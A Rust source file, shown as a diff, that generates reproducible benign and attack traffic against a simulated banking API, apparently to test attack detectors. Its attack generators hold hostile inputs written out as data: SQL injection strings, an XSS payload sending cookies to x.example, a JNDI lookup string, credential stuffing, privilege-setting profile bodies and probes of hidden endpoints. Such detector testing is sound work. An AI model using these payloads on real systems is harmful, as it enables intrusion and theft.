@@ -1,0 +1,564 @@
+//! Seeded user journeys: varied benign ones from many customers and client addresses, and one
+//! generator per attack kind. Everything derives from the seed, so a run is reproducible.
+
+use std::fmt;
+use std::net::Ipv4Addr;
+
+use rand::seq::IndexedRandom;
+use rand::{RngExt, SeedableRng};
+use rand_chacha::ChaCha8Rng;
+use serde_json::{Value, json};
+
+use super::bank::{Customer, Directory};
+
+/// The attacks the simulator knows, one per detector and variant.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
+pub enum AttackKind {
+    /// A transfer without the account and balance lookups that always precede it.
+    SkippedSteps,
+    /// A captured transfer replayed several times from the attacker's own session.
+    ReplayedTransfer,
+    /// A transfer after a normal journey, with an edited body (amount, extra field, type).
+    TamperedTransfer,
+    /// Balances of many other customers' accounts (BOLA).
+    AccountEnumeration,
+    /// Lookups of many phone numbers (BOLA through a lookup).
+    PhoneEnumeration,
+    /// Paging through all transactions.
+    Scraping,
+    /// Many logins with many usernames from one client.
+    CredentialStuffing,
+    /// Requests to endpoints the API does not publish.
+    ShadowProbing,
+    /// A profile update that sets a privileged field.
+    MassAssignment,
+    /// SQL, script and traversal payloads in parameters.
+    Injection,
+    /// Phone-number enumeration spread out and interleaved with normal steps, under any rate.
+    LowAndSlow,
+}
+
+impl AttackKind {
+    pub const ALL: [AttackKind; 11] = [
+        Self::SkippedSteps,
+        Self::ReplayedTransfer,
+        Self::TamperedTransfer,
+        Self::AccountEnumeration,
+        Self::PhoneEnumeration,
+        Self::Scraping,
+        Self::CredentialStuffing,
+        Self::ShadowProbing,
+        Self::MassAssignment,
+        Self::Injection,
+        Self::LowAndSlow,
+    ];
+
+    pub fn name(self) -> &'static str {
+        match self {
+            Self::SkippedSteps => "skipped steps",
+            Self::ReplayedTransfer => "replayed transfer",
+            Self::TamperedTransfer => "tampered transfer",
+            Self::AccountEnumeration => "account enumeration",
+            Self::PhoneEnumeration => "phone enumeration",
+            Self::Scraping => "scraping",
+            Self::CredentialStuffing => "credential stuffing",
+            Self::ShadowProbing => "shadow endpoint probing",
+            Self::MassAssignment => "mass assignment",
+            Self::Injection => "injection",
+            Self::LowAndSlow => "low-and-slow enumeration",
+        }
+    }
+}
+
+impl fmt::Display for AttackKind {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(self.name())
+    }
+}
+
+/// Benign or one attack kind.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum JourneyKind {
+    Benign,
+    Attack(AttackKind),
+}
+
+/// One HTTP request of a journey.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Step {
+    pub method: http::Method,
+    /// Path with the query string already encoded.
+    pub path_and_query: String,
+    pub body: Option<Value>,
+    /// Send the bearer token obtained by the journey's last successful login.
+    pub authenticated: bool,
+    /// The step is the harmful part of an attack (counted as harm when it reaches the app).
+    pub harmful: bool,
+    /// Real pause before the step, in milliseconds.
+    pub think_ms: u64,
+}
+
+/// A sequence of requests by one client.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Journey {
+    pub id: usize,
+    pub kind: JourneyKind,
+    /// Unique per journey: the enforcer sees it through `X-Forwarded-For`.
+    pub client: Ipv4Addr,
+    pub user_agent: &'static str,
+    pub steps: Vec<Step>,
+}
+
+const USER_AGENTS: [&str; 6] = [
+    "BankApp/5.2.1 (iOS 17.4; iPhone14,2)",
+    "BankApp/5.2.0 (Android 14; Pixel 7)",
+    "BankApp/5.1.9 (Android 13; SM-G991B)",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
+];
+
+const MEMOS: [&str; 8] = [
+    "rent",
+    "groceries",
+    "Invoice 2291",
+    "birthday gift",
+    "electricity bill",
+    "dinner split",
+    "loan repayment",
+    "holiday",
+];
+
+fn step(
+    method: http::Method,
+    path_and_query: impl Into<String>,
+    body: Option<Value>,
+    think_ms: u64,
+) -> Step {
+    Step {
+        method,
+        path_and_query: path_and_query.into(),
+        body,
+        authenticated: true,
+        harmful: false,
+        think_ms,
+    }
+}
+
+fn login(c: &Customer, password: &str) -> Step {
+    Step {
+        method: http::Method::POST,
+        path_and_query: "/api/v1/login".into(),
+        body: Some(json!({ "username": c.username, "password": password })),
+        authenticated: false,
+        harmful: false,
+        think_ms: 0,
+    }
+}
+
+fn accounts() -> Step {
+    step(http::Method::GET, "/api/v1/accounts", None, 1)
+}
+
+fn balance(account: u64) -> Step {
+    step(
+        http::Method::GET,
+        format!("/api/v1/accounts/{account}/balance"),
+        None,
+        1,
+    )
+}
+
+fn transactions(account: u64, page: u32) -> Step {
+    step(
+        http::Method::GET,
+        format!("/api/v1/accounts/{account}/transactions?page={page}&size=10"),
+        None,
+        1,
+    )
+}
+
+fn encode_query(value: &str) -> String {
+    let mut out = String::with_capacity(value.len() * 3);
+    for b in value.bytes() {
+        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'~') {
+            out.push(char::from(b));
+        } else {
+            out.push_str(&format!("%{b:02X}"));
+        }
+    }
+    out
+}
+
+fn lookup(phone: &str) -> Step {
+    step(
+        http::Method::GET,
+        format!("/api/v1/users/lookup?phone={}", encode_query(phone)),
+        None,
+        2,
+    )
+}
+
+fn amount(rng: &mut ChaCha8Rng) -> Value {
+    let cents: u64 = if rng.random_bool(0.7) {
+        rng.random_range(500..=30_000)
+    } else {
+        rng.random_range(30_000..=250_000)
+    };
+    json!((cents as f64) / 100.0)
+}
+
+fn transfer_body(rng: &mut ChaCha8Rng, from: u64, to: u64) -> Value {
+    json!({
+        "fromAccount": from.to_string(),
+        "toAccount": to.to_string(),
+        "amount": amount(rng),
+        "currency": if rng.random_bool(0.9) { "EUR" } else { "USD" },
+        "memo": *MEMOS.choose(rng).unwrap_or(&"rent"),
+    })
+}
+
+fn transfer(body: Value) -> Step {
+    step(http::Method::POST, "/api/v1/transfers", Some(body), 3)
+}
+
+fn other<'a>(rng: &mut ChaCha8Rng, directory: &'a Directory, me: usize) -> &'a Customer {
+    let n = directory.customers.len();
+    let mut i = rng.random_range(0..n);
+    if i == me {
+        i = (i + 1) % n;
+    }
+    &directory.customers[i]
+}
+
+/// A normal customer's visit.
+pub fn benign(rng: &mut ChaCha8Rng, directory: &Directory, me: usize) -> Vec<Step> {
+    let c = &directory.customers[me];
+    let mut steps = Vec::new();
+    if rng.random_bool(0.04) {
+        steps.push(login(c, "wrong-password"));
+    }
+    steps.push(login(c, &c.password));
+    let own = c.accounts[0];
+    match rng.random_range(0..100) {
+        // Check balances, perhaps recent transactions.
+        0..=29 => {
+            steps.push(accounts());
+            steps.push(balance(own));
+            if c.accounts.len() > 1 && rng.random_bool(0.6) {
+                steps.push(balance(c.accounts[1]));
+            }
+            if rng.random_bool(0.5) {
+                steps.push(transactions(own, 1));
+                if rng.random_bool(0.4) {
+                    steps.push(transactions(own, 2));
+                }
+            }
+        }
+        // Pay someone, sometimes a new payee found by phone number.
+        30..=54 => {
+            steps.push(accounts());
+            steps.push(balance(own));
+            steps.push(step(http::Method::GET, "/api/v1/payees", None, 2));
+            let payee = other(rng, directory, me);
+            if rng.random_bool(0.4) {
+                steps.push(lookup(&payee.phone));
+                steps.push(step(
+                    http::Method::POST,
+                    "/api/v1/payees",
+                    Some(json!({ "name": payee.name, "account": payee.accounts[0].to_string() })),
+                    2,
+                ));
+            }
+            let body = transfer_body(rng, own, payee.accounts[0]);
+            steps.push(transfer(body));
+            if rng.random_bool(0.5) {
+                steps.push(balance(own));
+            }
+        }
+        // Read the history of one account.
+        55..=74 => {
+            steps.push(accounts());
+            let account = *c.accounts.choose(rng).unwrap_or(&own);
+            for page in 1..=rng.random_range(1..=4u32) {
+                steps.push(transactions(account, page));
+            }
+            if rng.random_bool(0.3) {
+                steps.push(balance(account));
+            }
+        }
+        // Look at and maybe update the profile.
+        75..=89 => {
+            steps.push(step(http::Method::GET, "/api/v1/profile", None, 1));
+            if rng.random_bool(0.5) {
+                let body = match rng.random_range(0..3) {
+                    0 => json!({ "name": format!("{} Jr", c.name) }),
+                    1 => json!({ "email": format!("{}@mail.example.org", c.username) }),
+                    _ => json!({ "name": c.name, "phone": c.phone }),
+                };
+                steps.push(step(http::Method::PUT, "/api/v1/profile", Some(body), 3));
+            }
+            if rng.random_bool(0.5) {
+                steps.push(accounts());
+            }
+        }
+        // A quick look.
+        _ => {
+            steps.push(accounts());
+            if rng.random_bool(0.5) {
+                steps.push(step(http::Method::GET, "/api/v1/payees", None, 1));
+            }
+        }
+    }
+    steps
+}
+
+fn harmful(mut s: Step) -> Step {
+    s.harmful = true;
+    s
+}
+
+/// An attack journey of `kind` by customer `me` (stuffing uses no account of its own).
+pub fn attack(
+    rng: &mut ChaCha8Rng,
+    directory: &Directory,
+    me: usize,
+    kind: AttackKind,
+) -> Vec<Step> {
+    let c = &directory.customers[me];
+    let own = c.accounts[0];
+    let mut steps = vec![login(c, &c.password)];
+    match kind {
+        AttackKind::SkippedSteps => {
+            let victim = other(rng, directory, me);
+            let body = transfer_body(rng, own, victim.accounts[0]);
+            steps.push(harmful(transfer(body)));
+            steps.push(accounts());
+        }
+        AttackKind::ReplayedTransfer => {
+            let victim = other(rng, directory, me);
+            steps.push(accounts());
+            let body = transfer_body(rng, victim.accounts[0], own);
+            for _ in 0..4 {
+                steps.push(harmful(transfer(body.clone())));
+            }
+        }
+        AttackKind::TamperedTransfer => {
+            steps.push(accounts());
+            steps.push(balance(own));
+            steps.push(step(http::Method::GET, "/api/v1/payees", None, 2));
+            let payee = other(rng, directory, me);
+            let mut body = transfer_body(rng, own, payee.accounts[0]);
+            match rng.random_range(0..4) {
+                0 => body["amount"] = json!(950_000.0),
+                1 => body["amount"] = json!(-1500.0),
+                2 => body["skipLimitCheck"] = json!(true),
+                _ => body["amount"] = json!("2500.00 OR 1=1"),
+            }
+            steps.push(harmful(transfer(body)));
+        }
+        AttackKind::AccountEnumeration => {
+            steps.push(accounts());
+            steps.push(balance(own));
+            let start = rng.random_range(0..directory.customers.len().saturating_sub(40).max(1));
+            for victim in directory.customers.iter().skip(start).take(40) {
+                steps.push(harmful(balance(victim.accounts[0])));
+            }
+        }
+        AttackKind::PhoneEnumeration => {
+            steps.push(accounts());
+            steps.push(step(http::Method::GET, "/api/v1/payees", None, 1));
+            let base: u64 = rng.random_range(20_000_000..29_000_000);
+            for k in 0..40u64 {
+                steps.push(harmful(lookup(&format!("+4915{:08}", base + k))));
+            }
+        }
+        AttackKind::Scraping => {
+            steps.push(accounts());
+            for page in 1..=120u32 {
+                let s = transactions(own, page);
+                steps.push(if page > 4 { harmful(s) } else { s });
+            }
+        }
+        AttackKind::CredentialStuffing => {
+            steps.clear();
+            let start = rng.random_range(0..directory.customers.len().saturating_sub(40).max(1));
+            for victim in directory.customers.iter().skip(start).take(40) {
+                let mut s = login(victim, "Summer2024!");
+                s.harmful = true;
+                steps.push(s);
+            }
+        }
+        AttackKind::ShadowProbing => {
+            steps.push(accounts());
+            for path in [
+                "/api/v1/admin/users",
+                "/api/v1/internal/config",
+                "/api/v1/debug/vars",
+                "/api/v1/accounts/export",
+                "/api/v2/accounts",
+                "/api/v1/users",
+                "/actuator/env",
+                "/api/v1/admin/transfers",
+            ] {
+                steps.push(harmful(step(http::Method::GET, path, None, 1)));
+            }
+        }
+        AttackKind::MassAssignment => {
+            steps.push(step(http::Method::GET, "/api/v1/profile", None, 1));
+            let body = match rng.random_range(0..3) {
+                0 => json!({ "name": c.name, "role": "admin" }),
+                1 => json!({ "email": c.email, "verified": true, "dailyLimit": 1_000_000 }),
+                _ => json!({ "name": c.name, "customerId": "c1000" }),
+            };
+            steps.push(harmful(step(
+                http::Method::PUT,
+                "/api/v1/profile",
+                Some(body),
+                3,
+            )));
+        }
+        AttackKind::Injection => {
+            steps.push(accounts());
+            match rng.random_range(0..4) {
+                0 => steps.push(harmful(step(
+                    http::Method::GET,
+                    format!(
+                        "/api/v1/accounts/{own}/transactions?page={}&size=10",
+                        encode_query("1' OR '1'='1")
+                    ),
+                    None,
+                    1,
+                ))),
+                1 => steps.push(harmful(lookup("' UNION SELECT password FROM users--"))),
+                2 => steps.push(harmful(step(
+                    http::Method::PUT,
+                    "/api/v1/profile",
+                    Some(
+                        json!({ "name": "<script>fetch('//x.example/'+document.cookie)</script>" }),
+                    ),
+                    2,
+                ))),
+                _ => steps.push(harmful(step(
+                    http::Method::GET,
+                    format!(
+                        "/api/v1/accounts/{own}/transactions?page=1&size={}",
+                        encode_query("${jndi:ldap://x.example/a}")
+                    ),
+                    None,
+                    1,
+                ))),
+            }
+        }
+        AttackKind::LowAndSlow => {
+            steps.push(accounts());
+            steps.push(balance(own));
+            for k in 0..16 {
+                let victim = other(rng, directory, me);
+                let mut s = harmful(lookup(&victim.phone));
+                s.think_ms = rng.random_range(20..60);
+                steps.push(s);
+                if k % 4 == 3 {
+                    steps.push(balance(own));
+                }
+            }
+        }
+    }
+    steps
+}
+
+/// The journeys of one run: `benign` benign journeys then `per_kind` of every attack kind,
+/// each with its own customer and client address; shuffled when `shuffle` is set.
+pub fn generate(
+    seed: u64,
+    directory: &Directory,
+    first_customer: usize,
+    benign_count: usize,
+    per_kind: usize,
+    shuffle: bool,
+) -> Vec<Journey> {
+    let mut rng = ChaCha8Rng::seed_from_u64(seed);
+    let mut journeys = Vec::new();
+    let mut customer = first_customer;
+    let mut next_id = 0usize;
+    let mut push =
+        |kind: JourneyKind, steps: Vec<Step>, rng: &mut ChaCha8Rng, journeys: &mut Vec<Journey>| {
+            let id = next_id;
+            next_id += 1;
+            let base: u32 = if matches!(kind, JourneyKind::Benign) {
+                0x0A00_0000
+            } else {
+                0xC633_6400
+            };
+            // Unique across the phases of a run: phases use disjoint customer ranges.
+            let raw = base.wrapping_add(
+                u32::try_from(first_customer + id + 1).unwrap_or(u32::MAX) & 0x00FF_FFFF,
+            );
+            journeys.push(Journey {
+                id,
+                kind,
+                client: Ipv4Addr::from(raw),
+                user_agent: USER_AGENTS.choose(rng).copied().unwrap_or(USER_AGENTS[0]),
+                steps,
+            });
+        };
+    for _ in 0..benign_count {
+        let steps = benign(&mut rng, directory, customer % directory.customers.len());
+        customer += 1;
+        push(JourneyKind::Benign, steps, &mut rng, &mut journeys);
+    }
+    for kind in AttackKind::ALL {
+        for _ in 0..per_kind {
+            let steps = attack(
+                &mut rng,
+                directory,
+                customer % directory.customers.len(),
+                kind,
+            );
+            customer += 1;
+            push(JourneyKind::Attack(kind), steps, &mut rng, &mut journeys);
+        }
+    }
+    if shuffle {
+        use rand::seq::SliceRandom;
+        journeys.shuffle(&mut rng);
+    }
+    journeys
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn generation_is_deterministic_and_varied() {
+        let directory = Directory::generate(300);
+        let a = generate(7, &directory, 0, 100, 2, true);
+        let b = generate(7, &directory, 0, 100, 2, true);
+        assert_eq!(a, b);
+        assert_eq!(a.len(), 100 + 2 * AttackKind::ALL.len());
+        let shapes: std::collections::HashSet<Vec<String>> = a
+            .iter()
+            .filter(|j| j.kind == JourneyKind::Benign)
+            .map(|j| {
+                j.steps
+                    .iter()
+                    .map(|s| {
+                        format!(
+                            "{} {}",
+                            s.method,
+                            s.path_and_query.split('?').next().unwrap_or("")
+                        )
+                    })
+                    .collect()
+            })
+            .collect();
+        assert!(
+            shapes.len() > 30,
+            "only {} distinct benign journeys",
+            shapes.len()
+        );
+        let clients: std::collections::HashSet<Ipv4Addr> = a.iter().map(|j| j.client).collect();
+        assert_eq!(clients.len(), a.len());
+    }
+}
